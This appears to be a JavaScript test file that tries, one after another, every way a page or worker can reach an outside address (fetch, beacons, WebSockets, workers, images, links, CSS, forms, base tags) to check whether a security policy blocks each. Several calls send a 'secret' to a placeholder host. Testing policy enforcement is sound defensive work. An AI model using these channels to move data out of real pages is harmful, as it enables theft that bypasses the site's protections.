// Every way out of a page or a worker that its policy can close, one after the other. `OUTSIDE` is an address elsewhere.
const ways = {
  fetch: () => fetch(`http://${OUTSIDE}/fetch`, { mode: "no-cors" }),
  post: () => fetch(`http://${OUTSIDE}/post`, { method: "POST", mode: "no-cors", body: "secret", keepalive: true }),
  xhr: () => new Promise((done) => {
    const request = new XMLHttpRequest();
    request.onloadend = done;
    request.open("GET", `http://${OUTSIDE}/xhr`);
    request.send();
  }),
  webSocket: () => { new WebSocket(`ws://${OUTSIDE}/websocket`); },
  eventSource: () => { new EventSource(`http://${OUTSIDE}/eventsource`); },
  import: () => import(`http://${OUTSIDE}/import.js`),
  beacon: () => navigator.sendBeacon(`http://${OUTSIDE}/beacon`, "secret"),
  importScripts: () => importScripts(`http://${OUTSIDE}/importscripts.js`),
  worker: () => { new Worker(URL.createObjectURL(new Blob([`fetch("http://${OUTSIDE}/worker", { mode: "no-cors" })`]))); },
  image: () => { new Image().src = `http://${OUTSIDE}/image.png`; },
  element: () => {
    for (const [name, attribute] of [["script", "src"], ["iframe", "src"], ["audio", "src"], ["embed", "src"], ["object", "data"]]) {
      const element = document.createElement(name);
      element[attribute] = `http://${OUTSIDE}/${name}`;
      document.body.append(element);
    }
  },
  link: () => {
    for (const rel of ["stylesheet", "prefetch", "preload", "modulepreload", "manifest", "icon"]) {
      const link = document.createElement("link");
      Object.assign(link, { rel, href: `http://${OUTSIDE}/${rel}`, as: rel === "preload" ? "image" : "" });
      document.head.append(link);
    }
  },
  css: () => {
    const style = document.createElement("style");
    style.textContent = `@import "http://${OUTSIDE}/import.css"; body { background: url(http://${OUTSIDE}/background.png) }`;
    document.head.append(style);
    document.body.style.background = `url(http://${OUTSIDE}/styled.png)`;
  },
  form: () => {
    const frame = document.createElement("iframe");
    frame.name = "elsewhere";
    const form = Object.assign(document.createElement("form"), { action: `http://${OUTSIDE}/form`, method: "post", target: "elsewhere" });
    document.body.append(frame, form);
    form.submit();
  },
  base: () => {
    document.head.append(Object.assign(document.createElement("base"), { href: `http://${OUTSIDE}/base/` }));
    new Image().src = "picture.png";
  },
};
const tried = (async () => {
  const results = {};
  for (const [name, way] of Object.entries(ways)) {
    try {
      await way();
      results[name] = "no error";
    } catch (error) {
      results[name] = String(error);
    }
  }
  return results;
})();
